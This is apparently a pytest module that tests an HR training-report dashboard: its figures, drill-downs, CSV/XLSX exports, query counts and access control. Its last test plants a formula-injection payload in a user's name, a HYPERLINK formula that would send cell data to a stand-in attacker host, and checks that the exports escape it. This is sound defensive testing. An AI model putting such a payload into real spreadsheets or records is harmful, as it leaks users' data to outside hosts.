"""HR dashboard numbers, drill-down, exports, constant queries and HR-only access."""

from __future__ import annotations

import datetime
import io

import pytest
from openpyxl import load_workbook

from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from assignments.models import Assignment
from curriculum import services as progress
from people.factories import DepartmentFactory, EmployeeProfileFactory, LocationFactory


@pytest.fixture(autouse=True)
def _figures_of_few_people(small_groups_shown):
    """These tests check figures on three people; suppression is tested in test_privacy."""


@pytest.fixture
def data(tree):
    """Hamburg: 2 people (1 completed, 1 overdue); München: 1 person (not due yet)."""
    service = DepartmentFactory(name="Service")
    hamburg, munich = LocationFactory(name="Hamburg"), LocationFactory(name="München")
    done = EmployeeProfileFactory(department=service, location=hamburg)
    late = EmployeeProfileFactory(department=service, location=hamburg)
    fresh = EmployeeProfileFactory(department=service, location=munich)
    Assignment.objects.create(
        user=done.user, course=tree.course, due_date=datetime.date(2099, 1, 1)
    )
    Assignment.objects.create(
        user=late.user, course=tree.course, due_date=datetime.date(2020, 1, 1)
    )
    Assignment.objects.create(
        user=fresh.user, course=tree.course, due_date=datetime.date(2099, 1, 1)
    )
    for lesson in tree.lessons:
        progress.complete_lesson(done.user, lesson)
    return {"done": done, "late": late, "fresh": fresh, "tree": tree}


@pytest.mark.django_db
def test_dashboard_numbers_on_a_known_data_set(client_as, hr_user, data):
    from reports.services import DIMENSIONS, ReportFilters, grouped, totals_of

    tables = {dimension: grouped(ReportFilters(), dimension) for dimension in DIMENSIONS}
    for rows in tables.values():  # every table adds up to the same totals
        assert totals_of(rows) == {
            "total": 3,
            "completed": 1,
            "overdue": 1,
            "people": 3,
            "percent": 33,
            "suppressed": False,
        }
    by_location = {row["key"]: row for row in tables["location"]}
    assert by_location["Hamburg"] == {
        "key": "Hamburg",
        "label": "Hamburg",
        "total": 2,
        "completed": 1,
        "overdue": 1,
        "percent": 50,
        "people": 2,
    }
    assert by_location["München"]["percent"] == 0 and by_location["München"]["overdue"] == 0
    html = client_as(hr_user).get("/reports/").content.decode()
    assert 'data-stat="percent">33 %' in html
    assert ">Servicemitarbeitende</a>" in html  # staff roles by name, not by code
    assert "Hamburg" in html and "München" in html


@pytest.mark.django_db
def test_drill_down_shows_the_people_behind_a_number(client_as, hr_user, data):
    response = client_as(hr_user).get("/reports/location/people/?value=Hamburg&only=overdue")
    html = response.content.decode()
    assert str(data["late"].user) in html
    assert str(data["done"].user) not in html


@pytest.mark.django_db
def test_filters_narrow_the_report(client_as, hr_user, data):
    munich = data["fresh"].location
    html = client_as(hr_user).get(f"/reports/?location={munich.pk}").content.decode()
    assert 'data-stat="total">1<' in html
    assert (
        client_as(hr_user).get("/reports/?location=notanumber").status_code == 200
    )  # ignored, no 500


@pytest.mark.django_db
def test_csv_and_xlsx_exports(client_as, hr_user, data):
    client = client_as(hr_user)
    response = client.get("/reports/location/export.csv")
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "Hamburg;2;1;50;1" in text
    xlsx = client.get("/reports/location/export.xlsx?value=Hamburg")
    assert xlsx["Content-Disposition"].startswith(
        'attachment; filename="cx-report-location-people.xlsx"'
    )
    sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    rows = list(sheet.values)
    assert rows[0][0] == "E-Mail"
    assert {r[0] for r in rows[1:]} == {data["done"].user.email, data["late"].user.email}
    assert client.get("/reports/nonsense/export.csv").status_code == 404
    assert client.get("/reports/location/export.pdf").status_code == 404


@pytest.mark.django_db
def test_dashboard_query_count_is_constant_in_employees(client_as, hr_user, data):
    client = client_as(hr_user)
    client.get("/reports/")
    with CaptureQueriesContext(connection) as few:
        client.get("/reports/")
    for _ in range(15):
        person = EmployeeProfileFactory(
            department=data["done"].department, location=data["done"].location
        )
        Assignment.objects.create(
            user=person.user, course=data["tree"].course, due_date=datetime.date(2020, 5, 1)
        )
    with CaptureQueriesContext(connection) as many:
        client.get("/reports/")
    assert len(many) == len(few)


HR_URLS = [
    "/reports/",
    "/reports/location/people/?value=Hamburg",
    "/reports/location/export.csv",
    "/people/",
    "/people/import/",
    "/assignments/",
]


@pytest.mark.django_db
@pytest.mark.parametrize("url", HR_URLS)
def test_hr_views_are_forbidden_to_other_roles(
    client, client_as, learner, champion, editor, hr_user, data, url
):
    for user in (learner, champion, editor):
        assert client_as(user).get(url).status_code == 403, (url, user)
    client.logout()
    anonymous = client.get(url)
    assert anonymous.status_code == 302 and "/accounts/login/" in anonymous["Location"]
    assert client_as(hr_user).get(url).status_code == 200
    assert client_as(learner).post(reverse("people:import_apply", args=[1])).status_code == 403


@pytest.mark.django_db
def test_completions_per_week_count_calendar_weeks_in_local_time(data):
    from django.utils import timezone

    from curriculum.models import CourseEnrolment
    from reports.services import ReportFilters, completions_by_week

    def local(*args):
        return timezone.make_aware(datetime.datetime(*args))

    course = data["tree"].course
    CourseEnrolment.objects.filter(user=data["done"].user).update(
        completed_at=local(2026, 11, 23, 0, 30)  # Monday just after midnight: this week
    )
    CourseEnrolment.objects.create(
        user=data["late"].user, course=course, completed_at=local(2026, 11, 22, 23, 30)
    )  # Sunday night: last week
    CourseEnrolment.objects.create(
        user=data["fresh"].user, course=course, completed_at=local(2026, 8, 1, 12)
    )  # older than twelve weeks
    today = datetime.date(2026, 11, 25)
    weeks = completions_by_week(ReportFilters(), today=today)
    assert len(weeks) == 12 and weeks[0]["week"] == datetime.date(2026, 9, 7)
    assert [(w["week"], w["count"]) for w in weeks[-2:]] == [
        (datetime.date(2026, 11, 16), 1),
        (datetime.date(2026, 11, 23), 1),
    ]
    assert sum(w["count"] for w in weeks) == 2
    munich = ReportFilters(location=data["fresh"].location.pk)
    assert completions_by_week(munich, today=today) == []  # nothing recent: empty chart


@pytest.mark.django_db
def test_exports_never_carry_a_live_formula(client_as, hr_user, data):
    """Regression: a name like =HYPERLINK(...) became a formula in the XLSX and raw in the CSV."""
    attack = '=HYPERLINK("https://evil.example/?x="&A2,"Details")'
    user = data["late"].user
    user.first_name, user.last_name = attack, "-2+3"
    user.save()
    client = client_as(hr_user)
    text = b"".join(
        client.get("/reports/location/export.csv?value=Hamburg").streaming_content
    ).decode("utf-8-sig")
    assert ";\"'=HYPERLINK(" in text and ';"=HYPERLINK' not in text
    xlsx = b"".join(client.get("/reports/location/export.xlsx?value=Hamburg").streaming_content)
    sheet = load_workbook(io.BytesIO(xlsx)).active
    names = {row[1].value: row[1].data_type for row in sheet.iter_rows(min_row=2)}
    assert names[str(user)] == "s"
    assert any(cell.is_date for cell in next(sheet.iter_rows(min_row=2, max_row=2)))
